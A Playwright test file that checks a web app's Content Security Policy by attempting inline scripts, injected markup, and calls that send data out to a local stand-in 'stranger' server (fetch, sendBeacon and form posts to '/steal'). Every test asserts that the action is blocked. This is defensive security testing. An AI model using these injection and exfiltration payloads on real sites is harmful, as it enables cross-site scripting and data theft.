import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { demoTokens } from '@mocks/db/demo';
import { expect, test as base } from '@tests/support/fixtures/e2eTest';

/** Another site, and what has been asked of it. */
interface Stranger {
  origin: string;
  asked: string[];
}

/**
 * A page of the app that nobody watches: here, what the policy forbids is tried on purpose. And a site of a stranger, on
 * an origin of its own.
 */
const test = base.extend<{ tried: Page; stranger: Stranger }>({
  tried: async ({ browser, app }, use) => {
    const context = await browser.newContext({ baseURL: app.origin });
    await use(await context.newPage());
    await context.close();
  },
  stranger: async ({}, use) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response
        .writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' })
        .end('<!doctype html><title>Stranger</title><h1>Stranger</h1>');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    const { port } = server.address() as AddressInfo;
    await use({ origin: `http://127.0.0.1:${port}`, asked });
    server.closeAllConnections();
    server.close();
  },
});

/** Does something in the page, and returns the directives that it went against, once there is one. */
async function violations(page: Page, attempt: string, origin: string): Promise<string[]> {
  await page.goto('/login');
  await page.getByRole('heading', { level: 1 }).waitFor();
  return page.evaluate(
    async ([name, stranger]) => {
      const found: string[] = [];
      const first = new Promise<void>((done) => {
        document.addEventListener('securitypolicyviolation', (event) => {
          found.push(event.effectiveDirective);
          setTimeout(done, 50);
        });
      });
      const add = (tag: string, attributes: Record<string, string>, text = '') => {
        const element = document.createElement(tag);
        Object.entries(attributes).forEach(([key, value]) => element.setAttribute(key, value));
        if (text) element.append(text);
        document.body.append(element);
        return element;
      };
      const attempts: Record<string, () => unknown> = {
        'an inline script': () => add('script', {}, 'window.pwned = true'),
        'a script of another origin': () => add('script', { src: `${stranger}/evil.js` }),
        'a script of data': () => add('script', { src: 'data:text/javascript,window.pwned=true' }),
        'a handler in an attribute': () =>
          add('button', { onclick: 'window.pwned = true' }).click(),
        'a link that is a script': () => add('a', { href: 'javascript:window.pwned=true' }).click(),
        'text run as a script': () =>
          Reflect.apply(setTimeout, window, ['window.pwned = true']) as number,
        // Not from here: what a debugger evaluates may make functions.
        'text made a function': () =>
          setTimeout(() => Reflect.construct(Function, ['window.pwned = true']) as unknown),
        'markup made from text': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
        'a policy for scripts of its own': () =>
          (
            window as unknown as {
              trustedTypes: { createPolicy: (name: string, rules: object) => void };
            }
          ).trustedTypes.createPolicy('evil', {}),
        'a style in the page': () => add('style', {}, 'body { display: none }'),
        'a style sheet of another origin': () =>
          add('link', { rel: 'stylesheet', href: `${stranger}/evil.css` }),
        'a style in an attribute': () => add('p', { style: 'display: none' }),
        'a picture of another origin': () => add('img', { src: `${stranger}/pixel.png` }),
        'a frame of another origin': () => add('iframe', { src: `${stranger}/frame` }),
        'an object': () => add('object', { data: `${stranger}/object` }),
        'a call to another origin': () => fetch(`${stranger}/steal`).catch(() => undefined),
        'a beacon to another origin': () => navigator.sendBeacon(`${stranger}/steal`, 'secret'),
        'a form sent elsewhere': () => {
          (
            add('form', { action: `${stranger}/steal`, method: 'post' }) as HTMLFormElement
          ).submit();
        },
        'another base': () => add('base', { href: `${stranger}/` }),
        'a worker of another origin': () =>
          new Worker(URL.createObjectURL(new Blob(['self.pwned = true']))),
      };
      try {
        await attempts[name]?.();
      } catch {
        // What is refused may throw; that it was is what counts.
      }
      await first;
      if ('pwned' in window) found.push('it ran');
      return [...new Set(found)];
    },
    [attempt, origin] as const,
  );
}

const forbidden: [attempt: string, directives: string[]][] = [
  ['an inline script', ['require-trusted-types-for']],
  ['a script of another origin', ['require-trusted-types-for']],
  ['a script of data', ['require-trusted-types-for']],
  ['a handler in an attribute', ['require-trusted-types-for']],
  ['a link that is a script', ['script-src-elem']],
  ['text run as a script', ['require-trusted-types-for']],
  ['text made a function', ['require-trusted-types-for']],
  ['markup made from text', ['require-trusted-types-for']],
  ['a policy for scripts of its own', ['trusted-types']],
  ['a style in the page', ['style-src-elem']],
  ['a style sheet of another origin', ['style-src-elem']],
  ['a style in an attribute', ['style-src-attr']],
  ['a picture of another origin', ['img-src']],
  ['a frame of another origin', ['frame-src']],
  ['an object', ['require-trusted-types-for']],
  ['a call to another origin', ['connect-src']],
  ['a beacon to another origin', ['connect-src']],
  ['a form sent elsewhere', ['form-action']],
  ['another base', ['base-uri']],
  ['a worker of another origin', ['require-trusted-types-for']],
];

test.describe('the policy forbids', () => {
  for (const [attempt, directives] of forbidden) {
    test(attempt, async ({ tried, stranger }) => {
      expect(await violations(tried, attempt, stranger.origin)).toEqual(directives);
      expect(stranger.asked).toEqual([]);
    });
  }
});

/** Markup that somebody has put into the page on its way, and what the policy says to it. */
const injected: [markup: string, directives: string[]][] = [
  ['<script>window.pwned = true</script>', ['script-src-elem']],
  ['<script src="STRANGER/evil.js"></script>', ['script-src-elem']],
  ['<script src="data:text/javascript,window.pwned=true"></script>', ['script-src-elem']],
  ['<script type="module">window.pwned = true</script>', ['script-src-elem']],
  ['<img src="/none.png" alt="" onerror="window.pwned = true">', ['script-src-attr']],
  ['<style>body { display: none }</style>', ['style-src-elem']],
  ['<p style="display: none"></p>', ['style-src-attr']],
  ['<iframe src="STRANGER/frame"></iframe>', ['frame-src']],
  ['<object data="STRANGER/object"></object>', ['object-src']],
  ['<embed src="STRANGER/embed">', ['object-src']],
  ['<base href="STRANGER/">', ['base-uri']],
];

test.describe('injected markup comes to nothing', () => {
  for (const [markup, directives] of injected) {
    test(markup, async ({ tried, stranger, app }) => {
      await tried.addInitScript(() => {
        const found: string[] = [];
        Object.assign(window, { found });
        document.addEventListener('securitypolicyviolation', (event) =>
          found.push(event.effectiveDirective),
        );
      });
      await tried.route('/login', async (route) => {
        const answer = await route.fetch();
        const body = (await answer.text()).replace(
          '<div id="root">',
          `${markup.replace('STRANGER', stranger.origin)}$&`,
        );
        await route.fulfill({ response: answer, body });
      });
      await tried.goto(`${app.origin}/login`);
      await tried.getByRole('heading', { level: 1 }).waitFor();
      const read = () =>
        tried.evaluate(() => {
          const { found, pwned = false } = window as unknown as {
            found: string[];
            pwned?: boolean;
          };
          return { found: [...new Set(found)], pwned };
        });
      await expect.poll(read).toEqual({ found: directives, pwned: false });
      expect(stranger.asked).toEqual([]);
    });
  }
});

test.describe('a site of another origin', () => {
  test('cannot show the app in a frame', async ({ tried, stranger, app }) => {
    await tried.goto(stranger.origin);
    await tried.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    }, `${app.origin}/registration/${demoTokens.invited}`);
    await expect.poll(() => tried.frames()[1]?.url()).toContain('chrome-error://');
    expect(app.mock.calls.all()).toEqual([]);
  });

  test('cannot read the API, with a bearer or without', async ({ tried, stranger, app }) => {
    const [token] = await app.signIn('admin');
    await tried.goto(stranger.origin);
    const read = (headers: Record<string, string>) =>
      tried.evaluate(
        async ([address, sent]) => {
          try {
            return await (await fetch(address, { headers: sent })).text();
          } catch {
            return 'blocked';
          }
        },
        [
          `${app.origin}/api/truckers/get-truckers?pagination=true&page=1&sort=id&dir=asc`,
          headers,
        ] as const,
      );
    expect(await read({})).toBe('blocked');
    expect(await read({ authorization: `Bearer ${token}` })).toBe('blocked');
  });

  test('cannot run what the server has as a script of its own', async ({
    tried,
    stranger,
    app,
  }) => {
    await tried.goto(stranger.origin);
    const load = (address: string) =>
      tried.evaluate(
        (src) =>
          new Promise((done) => {
            const script = document.createElement('script');
            script.src = src;
            script.onload = () => done('loaded');
            script.onerror = () => done('blocked');
            document.body.append(script);
          }),
        address,
      );
    expect(await load(`${app.origin}/api/area/list`)).toBe('blocked');
    expect(await load(`${app.origin}/robots.txt`)).toBe('blocked');
  });

  test('has no hold on a window that it opens', async ({ tried, stranger, app }) => {
    await tried.goto(stranger.origin);
    const [opened] = await Promise.all([
      tried.waitForEvent('popup'),
      tried.evaluate((address) => {
        Object.assign(window, { opened: window.open(address) });
      }, `${app.origin}/login`),
    ]);
    await opened.getByRole('heading', { level: 1 }).waitFor();
    expect(await opened.evaluate(() => window.opener === null)).toBe(true);
    await expect
      .poll(() => tried.evaluate(() => (window as unknown as { opened: Window }).opened.closed))
      .toBe(true);
  });
});
